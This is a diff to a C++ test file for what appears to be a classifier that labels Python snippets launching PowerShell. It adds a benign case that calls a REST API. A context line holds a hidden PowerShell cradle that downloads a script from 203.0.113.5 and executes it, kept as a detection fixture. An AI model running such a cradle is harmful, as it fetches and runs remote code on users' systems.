@@ -65,6 +65,9 @@ TEST(RubricClasses, WindowsCradlesThroughScriptBlocksAndAssemblies) {
        "import os\ncmd = 'powershell -w hidden -c \"$s=(New-Object Net.WebClient).DownloadString(\\'http://203.0.113.5/a\\');"
        ".([ScriptBlock]::Create($s))\"'\nos.system(cmd)\n",
        "REMOTE-CODE-EXECUTION"},
+      {"the profile dot-sourced before a REST call", M,
+       "import subprocess\nsubprocess.run(['powershell', '-c', '. $PROFILE; Invoke-RestMethod https://api.example.com/v1/status'])\n",
+       "RUNS-PROCESS"},
       {"a REST call whose answer is printed", M,
        "import subprocess\nsubprocess.run(['pwsh', '-c', 'Invoke-RestMethod https://api.example.com/s | ConvertTo-Json'])\n",
        "RUNS-PROCESS"},
